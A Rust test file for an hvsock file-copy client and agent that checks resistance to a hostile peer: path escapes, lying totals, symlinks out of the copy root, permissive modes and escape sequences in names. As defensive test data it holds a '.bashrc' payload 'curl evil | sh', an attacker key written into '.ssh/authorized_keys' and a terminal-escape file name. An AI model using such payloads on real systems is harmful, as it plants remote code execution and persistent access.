//! File copy against a hostile peer: a fake agent whose stream is not what the client
//! asked for, a client whose stream lies about its totals, symlinks planted inside the
//! agent's copy root, modes that would open up the receiver's files, names too long
//! for a temp name, and the directories a failed copy leaves.

mod common;

use common::*;
#[cfg(unix)]
use hvsock_agent::AgentOptions;
use hvsock_agent::ClientError;
use hvsock_agent::client;
use hvsock_agent::proto::{ErrorCode, Frame};
#[cfg(unix)]
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
#[cfg(unix)]
use std::path::PathBuf;

#[cfg(unix)]
fn mode(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
}

#[cfg(unix)]
fn set_mode(p: &Path, m: u32) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
}

/// This process's umask (what the receiver applies to a peer's modes).
#[cfg(unix)]
fn umask() -> u32 {
    let s = std::fs::read_to_string("/proc/self/status").unwrap();
    let v = s.lines().find_map(|l| l.strip_prefix("Umask:")).unwrap();
    u32::from_str_radix(v.trim(), 8).unwrap()
}

/// `copy_from_remote(remote → local)` against a fake agent sending `frames`.
async fn fake_copy_from(
    frames: Vec<Frame>,
    remote: &str,
    local: &Path,
    recursive: bool,
) -> Result<(), ClientError> {
    let (s, task) = fake_agent(frames);
    let r = client::copy_from_remote(conn(s), remote, local, recursive, None).await;
    task.await.unwrap();
    r.map(|_| ())
}

/// A home directory with `.ssh/authorized_keys` (0600 in 0700) and `.bashrc`.
fn home() -> tempfile::TempDir {
    let home = tempfile::tempdir().unwrap();
    let ssh = home.path().join(".ssh");
    std::fs::create_dir(&ssh).unwrap();
    std::fs::write(ssh.join("authorized_keys"), "ssh-ed25519 AAAA mine\n").unwrap();
    #[cfg(unix)]
    {
        set_mode(&ssh, 0o700);
        set_mode(&ssh.join("authorized_keys"), 0o600);
    }
    std::fs::write(home.path().join(".bashrc"), "# mine\n").unwrap();
    home
}

/// `.ssh` and `.bashrc` as they were; nothing new but the requested `allowed`.
fn assert_home_untouched(home: &Path, context: &str, allowed: &[&str]) {
    let ssh = home.join(".ssh");
    assert_eq!(
        std::fs::read_to_string(ssh.join("authorized_keys")).unwrap(),
        "ssh-ed25519 AAAA mine\n",
        "{context}"
    );
    #[cfg(unix)]
    {
        assert_eq!(mode(&ssh.join("authorized_keys")), 0o600, "{context}");
        assert_eq!(mode(&ssh), 0o700, "{context}");
    }
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# mine\n",
        "{context}"
    );
    let mut names: Vec<String> = std::fs::read_dir(home)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !allowed.contains(&n.as_str()))
        .collect();
    names.sort();
    assert_eq!(names, [".bashrc", ".ssh"], "{context}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fake_agent_cannot_replace_authorized_keys() {
    // `cd ~ && hvsock cp evil:/var/log/syslog .`: not recursive, one file "syslog" asked
    // for. Each stream below once replaced a file of the home directory.
    let key = b"ssh-ed25519 AAAA attacker\n";
    let mut attacks: Vec<(&str, Vec<Frame>)> = Vec::new();
    let mut a = vec![dir(".ssh", 0o777)];
    a.extend(file(".ssh/authorized_keys", 0o666, key));
    attacks.push(("the reported attack: a .ssh tree", a));
    attacks.push((
        "another root name",
        file(".bashrc", 0o644, b"curl evil | sh\n"),
    ));
    let mut a = file("syslog", 0o644, b"log\n");
    a.extend(file(".bashrc", 0o644, b"curl evil | sh\n"));
    attacks.push(("a second root entry", a));
    let mut a = vec![dir("syslog", 0o755)];
    a.extend(file("syslog/x", 0o644, b"x"));
    attacks.push(("a directory for a non-recursive request", a));
    for (what, mut frames) in attacks {
        frames.insert(0, copy_total(&frames));
        frames.push(Frame::CopyEnd);
        let home = home();
        let r = fake_copy_from(frames, "/var/log/syslog", home.path(), false).await;
        let e = r.expect_err(what);
        assert!(
            matches!(
                e,
                ClientError::Local {
                    code: ErrorCode::BAD_REQUEST,
                    ..
                }
            ),
            "{what}: {e}"
        );
        // Only the requested name may have come (complete files land one by one).
        assert_home_untouched(home.path(), what, &["syslog"]);
    }
    // Recursive, into ~: the root must still be the requested name.
    let mut frames = vec![dir(".ssh", 0o700)];
    frames.extend(file(".ssh/authorized_keys", 0o600, key));
    frames.insert(0, copy_total(&frames));
    frames.push(Frame::CopyEnd);
    let home = home();
    let e = fake_copy_from(frames, "/srv/site", home.path(), true)
        .await
        .unwrap_err();
    assert!(
        e.to_string().contains("is not the requested \"site\""),
        "{e}"
    );
    assert_home_untouched(home.path(), "recursive", &[]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn counts_sizes_and_repeats_must_match_the_announcement() {
    let mut cases: Vec<(&str, Vec<Frame>)> = Vec::new();
    // More files than announced.
    let mut a = vec![Frame::CopyTotal { files: 1, bytes: 2 }, dir("t", 0o755)];
    a.extend(file("t/a", 0o644, b"a"));
    a.extend(file("t/b", 0o644, b"b"));
    cases.push(("more files than announced", a));
    // A file bigger than what is left of the announced bytes.
    let mut a = vec![Frame::CopyTotal { files: 2, bytes: 2 }, dir("t", 0o755)];
    a.extend(file("t/a", 0o644, b"aa"));
    a.extend(file("t/b", 0o644, b"b"));
    cases.push(("more bytes than announced", a));
    // Fewer than announced at CopyEnd.
    let mut a = vec![Frame::CopyTotal { files: 2, bytes: 2 }, dir("t", 0o755)];
    a.extend(file("t/a", 0o644, b"a"));
    cases.push(("fewer files than announced", a));
    // The same path twice: a second version would replace the first.
    let mut a = vec![dir("t", 0o755)];
    a.extend(file("t/a", 0o644, b"first"));
    a.extend(file("t/a", 0o644, b"second"));
    cases.push(("a file twice", a));
    let mut a = vec![dir("t", 0o755), dir("t/a", 0o755)];
    a.extend(file("t/a", 0o644, b"x"));
    cases.push(("a file where a directory was", a));
    cases.push((
        "a directory twice",
        vec![dir("t", 0o755), dir("t/d", 0o755), dir("t/d", 0o755)],
    ));
    // An entry whose directory never came.
    let mut a = vec![dir("t", 0o755)];
    a.extend(file("t/nodir/f", 0o644, b"x"));
    cases.push(("a file without its directory", a));
    cases.push(("no CopyTotal", {
        let mut a = vec![dir("t", 0o755)];
        a.extend(file("t/a", 0o644, b"a"));
        a
    }));
    for (what, mut frames) in cases {
        if what != "no CopyTotal" && !matches!(frames[0], Frame::CopyTotal { .. }) {
            frames.insert(0, copy_total(&frames));
        }
        frames.push(Frame::CopyEnd);
        let local = tempfile::tempdir().unwrap();
        let e = fake_copy_from(frames, "t", local.path(), true)
            .await
            .expect_err(what);
        assert!(
            matches!(
                e,
                ClientError::Local {
                    code: ErrorCode::BAD_REQUEST,
                    ..
                }
            ),
            "{what}: {e}"
        );
        if what == "a file twice" {
            // Never the second version.
            let a = local.path().join("t/a");
            assert!(
                !a.exists() || std::fs::read(&a).unwrap() == b"first",
                "{what}"
            );
        }
    }
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn peer_modes_are_masked_and_existing_directories_keep_theirs() {
    let local = tempfile::tempdir().unwrap();
    let t = local.path().join("t");
    std::fs::create_dir(&t).unwrap();
    set_mode(&t, 0o750);
    let mut frames = vec![dir("t", 0o777)];
    frames.extend(file("t/f", 0o6777, b"x"));
    frames.push(dir("t/d", 0o777));
    frames.insert(0, copy_total(&frames));
    frames.push(Frame::CopyEnd);
    fake_copy_from(frames, "t", local.path(), true)
        .await
        .unwrap();
    let um = umask();
    assert_eq!(mode(&t), 0o750, "an existing directory keeps its mode");
    assert_eq!(mode(&t.join("f")), 0o777 & !um);
    assert_eq!(mode(&t.join("d")), 0o777 & !um);
    // And on the agent: the same masks.
    let mut agent = start_agent(AgentOptions::default());
    let work = tempfile::tempdir().unwrap();
    let src = work.path().join("open");
    std::fs::write(&src, "x").unwrap();
    set_mode(&src, 0o777);
    let remote = tempfile::tempdir().unwrap();
    agent
        .push_ok(&src, remote.path().to_str().unwrap(), false)
        .await;
    assert_eq!(mode(&remote.path().join("open")), 0o777 & !um);
}

/// A root `ROOT` with `ROOT/d/x/link -> OUTSIDE` (and a secret there).
#[cfg(unix)]
fn root_with_link() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("root");
    let outside = t.path().join("outside");
    std::fs::create_dir_all(root.join("d/x")).unwrap();
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("secret"), "SECRET").unwrap();
    std::os::unix::fs::symlink(&outside, root.join("d/x/link")).unwrap();
    (t, root, outside)
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_symlink_inside_the_copy_root_leads_nowhere() {
    let (_t, root, outside) = root_with_link();
    let mut agent = start_agent(AgentOptions {
        copy_root: Some(root.clone()),
        ..AgentOptions::default()
    });
    // Into an existing directory, entries through the planted link: with and without
    // a Dir entry for it.
    let mut through_dir = vec![dir("x", 0o755), dir("x/link", 0o755)];
    through_dir.extend(file("x/link/pwned", 0o644, b"pwned"));
    let mut no_dir = vec![dir("x", 0o755)];
    no_dir.extend(file("x/link/pwned", 0o644, b"pwned"));
    for (dst, frames) in [("d", through_dir), ("d", no_dir)] {
        let (mut r, mut w) = agent
            .raw_request(Frame::CopyTo {
                path: dst.into(),
                recursive: true,
            })
            .await;
        let mut all = vec![copy_total(&frames)];
        all.extend(frames);
        all.push(Frame::CopyEnd);
        for f in &all {
            if w.write_frame(f).await.is_err() {
                break;
            }
        }
        match r.read_frame().await.unwrap() {
            Some(Frame::Error { .. }) => {}
            other => panic!("{dst}: {other:?}"),
        }
        let _ = agent.next_result().await;
        assert!(!outside.join("pwned").exists(), "{dst}");
    }
    // The link itself as the destination: replaced (a file now), never followed.
    let work = tempfile::tempdir().unwrap();
    let f = work.path().join("pwned");
    std::fs::write(&f, "pwned").unwrap();
    agent.push_ok(&f, "d/x/link", false).await;
    assert!(
        std::fs::symlink_metadata(root.join("d/x/link"))
            .unwrap()
            .is_file()
    );
    assert!(!outside.join("pwned").exists());
    std::fs::remove_file(root.join("d/x/link")).unwrap();
    std::os::unix::fs::symlink(&outside, root.join("d/x/link")).unwrap();
    // Reading through it: refused.
    let local = tempfile::tempdir().unwrap();
    for (src, recursive) in [("d/x/link/secret", false), ("d/x/link", true)] {
        let r = client::copy_from_remote(agent.connect().await, src, local.path(), recursive, None)
            .await;
        assert!(r.is_err(), "{src}");
        let _ = agent.next_result().await;
    }
    assert_eq!(std::fs::read_dir(local.path()).unwrap().count(), 0);
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1);
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_of_255_bytes_copy_both_ways() {
    let mut agent = start_agent(AgentOptions::default());
    let work = tempfile::tempdir().unwrap();
    let name = "n".repeat(255);
    let src = work.path().join(&name);
    std::fs::write(&src, "long").unwrap();
    let remote = tempfile::tempdir().unwrap();
    agent
        .push_ok(&src, remote.path().to_str().unwrap(), false)
        .await;
    let there = remote.path().join(&name);
    assert_eq!(std::fs::read(&there).unwrap(), b"long");
    let back = tempfile::tempdir().unwrap();
    agent
        .pull_ok(there.to_str().unwrap(), back.path(), false)
        .await;
    assert_eq!(std::fs::read(back.path().join(&name)).unwrap(), b"long");
}

/// Replaces the last frame (a `FileEnd`) with one whose digest is wrong, then adds the
/// honest total in front and `CopyEnd` behind.
fn spoil_last_digest_and_frame(frames: &mut Vec<Frame>) {
    let n = frames.len();
    frames[n - 1] = Frame::FileEnd {
        sha256: sha256(b"not x"),
    };
    frames.insert(0, copy_total(frames));
    frames.push(Frame::CopyEnd);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_copy_removes_its_empty_directories_and_restores_modes() {
    // Fails in an empty subdirectory: the whole new tree goes.
    let mut frames = vec![dir("t", 0o755), dir("t/a", 0o755)];
    frames.extend(file("t/a/f", 0o644, b"x"));
    spoil_last_digest_and_frame(&mut frames);
    let local = tempfile::tempdir().unwrap();
    let e = fake_copy_from(frames, "t", local.path(), true)
        .await
        .unwrap_err();
    assert!(e.to_string().contains("SHA-256 mismatch"), "{e}");
    assert_eq!(
        hvsock_testkit::fs::dir_entries(local.path()),
        Vec::<String>::new()
    );

    // A file was complete before the failure: its directory stays, with its real mode.
    let mut frames = vec![dir("t", 0o755)];
    frames.extend(file("t/ok", 0o644, b"ok"));
    frames.push(dir("t/b", 0o755));
    frames.extend(file("t/b/f", 0o644, b"x"));
    spoil_last_digest_and_frame(&mut frames);
    let local = tempfile::tempdir().unwrap();
    fake_copy_from(frames, "t", local.path(), true)
        .await
        .unwrap_err();
    let t = local.path().join("t");
    assert_eq!(std::fs::read(t.join("ok")).unwrap(), b"ok");
    assert!(!t.join("b").exists());
    #[cfg(unix)]
    assert_eq!(mode(&t), 0o755 & !umask(), "not left 0700");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn peer_names_in_messages_are_escaped() {
    let local = tempfile::tempdir().unwrap();
    let evil = "\x1b]0;owned\x07\x1b[2J";
    let mut frames = file(evil, 0o644, b"x");
    frames.insert(0, copy_total(&frames));
    frames.push(Frame::CopyEnd);
    let e = fake_copy_from(frames, "f", local.path(), false)
        .await
        .unwrap_err();
    let msg = e.to_string();
    assert!(!msg.chars().any(|c| c.is_control()), "{msg:?}");
    assert!(msg.contains("\\u{1b}]0;owned"), "{msg:?}");
}
